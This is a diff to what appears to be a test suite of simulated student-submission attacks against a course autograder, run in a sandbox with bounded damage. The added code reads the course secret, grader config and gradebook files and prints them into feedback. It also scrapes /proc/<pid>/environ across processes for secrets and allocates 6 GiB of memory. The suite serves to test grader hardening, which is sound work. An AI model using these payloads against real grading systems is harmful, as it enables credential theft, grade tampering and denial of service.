@@ -32,10 +32,11 @@ Safety, in case the sandbox is missing (these run as the instructor's user):
   test plants, and the gradebook only in a course root that holds the test's
   ``CANARY.txt`` (a real course has none): the attacks rename canaries and
   rewrite the gradebook of the test's throwaway course, nothing else.
-* Nothing is ever deleted recursively, no process is signalled except the
-  attack's own children, and every flood is bounded: at most 2000 processes
-  that exit after 60 s, 6 GiB of memory, 300 MB of output per stream, 2 GiB
-  of disk, busy loops of at most 60 s, daemons that give up after 90 s.
+* Nothing is ever deleted recursively, no other process is signalled, and
+  every flood is bounded: at most 2000 processes that exit after 60 s, 6 GiB
+  of memory at a time, 300 MB of output per stream, 2 GiB of disk in the cwd
+  and in /tmp (256 MiB in /dev/shm), busy loops and hangs of at most 60 s,
+  daemons that give up after 95 s.
 """
 import textwrap
 
@@ -914,8 +915,17 @@ _attack(
                 continue
             _mark("read", _path)
             _adopt(_code, _path)
+        for _root in _course_roots():        # the course secret and config: printed, so the feedback carries them
+            for _name in (".cnncourse_secret", "nbgrader_config.py", "gradebook.db"):
+                try:
+                    with open(os.path.join(_root, _name), "rb") as f:
+                        _data = f.read(4096)
+                    _mark("read-" + _name.strip("."), _root)
+                    print(f"{_root}/{_name}: {_data[:2000]!r}")
+                except OSError:
+                    pass
     '''),
-    damage="full marks with the instructor's own solutions",
+    damage="full marks with the instructor's own solutions; the course secret in the feedback",
 )
 
 _attack(
@@ -1026,6 +1036,30 @@ _attack(
 )
 
 _attack(
+    "leak_environment", {"read_secrets"},
+    "prints its own environment and that of every process it can see (/proc/<pid>/environ), so that the "
+    "course secret reaches the feedback",
+    _cells("leak_environment", STUBS + '''
+        def _show(where, pairs):
+            # the course's own variables in full, only the names of the others (no unrelated credentials)
+            print(where, {k: (v if k.upper().startswith("CNNCOURSE") else "...") for k, v in pairs})
+
+
+        _show("os.environ", os.environ.items())
+        for _pid in ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()][:300]:
+            try:
+                with open(f"/proc/{_pid}/environ", "rb") as f:
+                    _pairs = [kv.decode(errors="replace").partition("=")[::2] for kv in f.read().split(b"\\0") if kv]
+            except OSError:
+                continue
+            _show(f"/proc/{_pid}/environ", _pairs)
+            if _pid not in ("self", str(os.getpid())) and any(k == "CNNCOURSE_SECRET" for k, _ in _pairs):
+                _mark("saw-secret", _pid)
+    '''),
+    damage="the course secret (or other credentials) printed into the student's feedback",
+)
+
+_attack(
     "regenerate_cases", {"regenerate_cases", "read_secrets", "forbidden_library"},
     "imports the grader's checks (cnncourse.grading.checks / cnncore.grading.checks), regenerates the hidden cases "
     "from guessed seeds and secrets, and answers them from a lookup table",
@@ -1081,7 +1115,7 @@ _attack(
                         _mark("config-secret", _m.group(0))
             except OSError:
                 pass
-            for _name in (".cnncourse-secret", "secret.txt", ".secret", "course_secret"):
+            for _name in (".cnncourse_secret", ".cnncourse-secret", "secret.txt", ".secret", "course_secret"):
                 try:
                     with open(os.path.join(_root, _name)) as f:
                         _seeds.append(f.read().strip())
@@ -1623,7 +1657,7 @@ _attack(
 
 _attack(
     "memory_hog", {"memory"},
-    "allocates and touches 6 GiB at top level and again in each graded function",
+    "allocates and touches 6 GiB at top level and again in the first call of each graded function",
     _cells("memory_hog", STUBS + '''
         import numpy as np
 
@@ -1649,7 +1683,9 @@ _attack(
         def _first_call_hogs(fn):
             def wrapper(*args, **kwargs):
                 if not _calls.get(fn.__name__):
-                    _calls[fn.__name__] = _hog()
+                    _calls[fn.__name__] = True
+                    del _kept[:]          # at most 6 GiB at a time
+                    _kept.extend(_hog())
                 return fn(*args, **kwargs)
             wrapper.__name__ = fn.__name__
             return wrapper
